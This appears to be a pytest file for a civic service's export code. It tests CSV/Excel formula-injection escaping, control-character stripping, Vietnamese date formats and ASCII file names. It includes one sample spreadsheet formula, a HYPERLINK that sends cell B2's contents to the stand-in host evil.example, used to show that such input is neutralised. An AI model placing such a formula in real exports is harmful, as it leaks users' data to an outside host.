"""Files people download (issue 13, items 1, 2 and 15): user text never runs as a formula, a control character never
breaks a report, names keep Vietnamese readable, dates read dd/mm/yyyy, headers stay in view with filters."""

from datetime import UTC, date, datetime

import pytest
from openpyxl import Workbook

from civicdesk.core import exports

EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"Bấm vào đây")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_would_run_as_a_formula_is_text(start):
    assert exports.csv_value(f"{start}1+1") == f"'{start}1+1"
    assert exports.csv_value("Đăng ký khai sinh") == "Đăng ký khai sinh"
    assert exports.csv_value(-5) == -5  # numbers are numbers


def test_an_excel_cell_is_text_and_holds_no_control_character():
    sheet = Workbook().active
    cell = exports.set_cell(sheet["A1"], EVIL + "\x0b\x00")
    assert cell.data_type == "s" and cell.value == EVIL
    day = exports.set_cell(sheet["A2"], date(2028, 2, 29))
    assert day.number_format == "dd/mm/yyyy"
    moment = exports.set_cell(sheet["A3"], datetime(2027, 2, 8, 2, 30, tzinfo=UTC))  # 09:30 in Vietnam
    assert moment.value == datetime(2027, 2, 8, 9, 30) and moment.number_format == "dd/mm/yyyy hh:mm"


def test_file_names_keep_vietnamese_letters():
    assert (
        exports.download_name("kpi", "Tỉnh Lâm Đồng", "08-02-2027", ext="xlsx")
        == "kpi-tinh-lam-dong-08-02-2027.xlsx"
    )
    assert exports.download_name("Đắk Nông", ext="csv") == "dak-nong.csv"
    assert exports.download_name("", ext="csv") == "tep.csv"
